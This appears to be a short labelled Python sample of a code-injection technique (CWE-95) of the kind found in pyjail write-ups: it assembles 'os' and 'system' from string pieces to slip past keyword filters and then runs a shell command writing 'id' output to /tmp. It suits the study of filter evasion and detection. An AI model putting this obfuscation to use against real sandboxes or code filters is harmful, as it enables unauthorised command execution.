# hostile: module and function names built from pieces, then imported and fetched (CWE-95; pyjail write-ups)
m = __import__("o" + "s")
run = getattr(m, "sys" + "tem")
run("id > /tmp/out.txt")
